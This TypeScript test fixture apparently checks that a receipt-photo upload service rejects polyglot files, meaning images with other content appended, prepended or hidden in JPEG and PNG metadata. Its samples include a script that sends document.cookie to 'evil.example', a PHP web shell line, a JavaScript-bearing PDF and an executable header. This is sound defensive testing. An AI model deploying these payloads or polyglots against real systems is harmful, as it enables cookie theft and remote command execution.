import { type Base, png, RECEIPTS, webp } from './base-images.ts';
import { insertChunks, insertSegments, jpegSegment, pngChunk } from './chunk-cases.ts';
import { photosUpload, type Recipe } from './upload.ts';

/** Marker in all content that must not be stored. */
export const CANARY = 'canary-9f3b17';

const bytes = (text: string) => Buffer.from(`${text} ${CANARY}`, 'latin1');
const ZIP = Buffer.concat([
  Buffer.from('504b0304140000000000', 'hex'),
  bytes('payload.sh'),
  Buffer.from('504b0506000000000100010040000000280000000000', 'hex'),
]);
const HTML = bytes('<html><script>fetch("//evil.example/"+document.cookie)</script></html>');
const PHP = bytes('<?php system($_GET["c"]); ?>');
const PDF = bytes('%PDF-1.7\n1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n%%EOF');
const SCRIPT = bytes('*/=1;alert(1);/*');
const PROGRAM = Buffer.concat([bytes('MZ'), Buffer.alloc(5_000_000, 0x90)]);

const OTHERS = { zip: ZIP, html: HTML, php: PHP, pdf: PDF, script: SCRIPT, program: PROGRAM };

type Blend = (base: Base, other: Buffer) => Promise<Buffer>;

const COMMENT_MAX = 60_000;

const BLENDS: Readonly<Record<string, Blend>> = {
  'jpeg, then': async ({ bytes: jpeg }, other) => Buffer.concat([jpeg, other]),
  'png, then': async (base, other) => Buffer.concat([await png(base), other]),
  'webp, then': async (base, other) => Buffer.concat([await webp(base), other]),
  'first, then jpeg:': async ({ bytes: jpeg }, other) => Buffer.concat([other, jpeg]),
  'a comment in a jpeg:': async ({ bytes: jpeg }, other) =>
    insertSegments(jpeg, [jpegSegment(0xfe, other.subarray(0, COMMENT_MAX))]),
  'an app segment in a jpeg:': async ({ bytes: jpeg }, other) =>
    insertSegments(jpeg, [jpegSegment(0xed, other.subarray(0, COMMENT_MAX))]),
  'a text in a png:': async (base, other) => {
    const text = Buffer.concat([Buffer.from('Comment\0'), other.subarray(0, COMMENT_MAX)]);
    return insertChunks(await png(base), [pngChunk('tEXt', text)]);
  },
};

/** Polyglot files: a photo for one program and something else for another. */
export const POLYGLOTS: readonly Recipe[] = Object.entries(BLENDS).flatMap(([blend, mix], row) =>
  Object.entries(OTHERS).map(([other, content], column): Recipe => {
    const base = RECEIPTS[(row + column) % RECEIPTS.length];
    return {
      kind: 'two files in one',
      name: `${blend} ${other}`,
      make: async () => {
        if (base === undefined) throw new Error('there are no sample receipts');
        const { amounts } = base;
        return photosUpload([await mix(base, content)], { expectedOutcome: 'either', amounts });
      },
    };
  }),
);
